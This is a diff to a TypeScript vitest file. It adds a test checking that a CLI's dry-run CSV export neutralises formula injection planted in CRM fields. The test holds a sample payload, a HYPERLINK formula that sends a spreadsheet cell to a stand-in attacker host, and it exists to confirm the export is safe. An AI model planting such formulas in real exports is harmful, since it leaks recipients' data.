@@ -3,6 +3,7 @@
  * --json), runs, explain, rollback; and what they say when something is wrong.
  */
 import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { spawnCli, type CliResult } from '../cliChild.ts';
 import { createHarness, type Harness } from './harness.ts';
@@ -84,6 +85,20 @@ describe('lifecycle-sync commands against the HubSpot sandbox', () => {
     expect(rollback.code, rollback.stderr).toBe(0);
     expect(JSON.parse(rollback.stdout)).toMatchObject({ kind: 'rollback', status: 'succeeded', written: 120 });
     expect([...h.crmValues().values()].every((v) => Object.values(v).every((x) => x === null))).toBe(true);
+  });
+
+  it("sync --dry-run's CSV: a value planted in the CRM is written as text, not as a formula; a negative number stays a number", async () => {
+    const [contactId] = h.sandbox.data.contactIds();
+    const planted = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
+    h.sandbox.data.updateContact(contactId, { lcs_stage_reason: planted, lcs_next_action: '@SUM(A1:A9)', lcs_ltv: '-12.5' });
+    const run = await cli(['sync', '--dry-run', '--json']);
+    expect(run.code, run.stderr).toBe(0);
+    const csv = readFileSync((JSON.parse(run.stdout) as JsonSummary).planCsv ?? '', 'utf8');
+    const rows = Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data.filter((r) => r.recordId === contactId);
+    const current = Object.fromEntries(rows.map((r) => [r.field, r.current]));
+    expect(current).toMatchObject({ stageReason: `'${planted}`, nextAction: "'@SUM(A1:A9)", ltv: '-12.5' });
+    // Every cell a spreadsheet would evaluate starts with the quote.
+    for (const line of Papa.parse<string[]>(csv.trim()).data) for (const cell of line) expect(cell).not.toMatch(/^[=+@\t\r]/);
   });
 
   it('explain of an unknown record, rollback of an unknown run, a bad flag: one line and exit code 1', async () => {
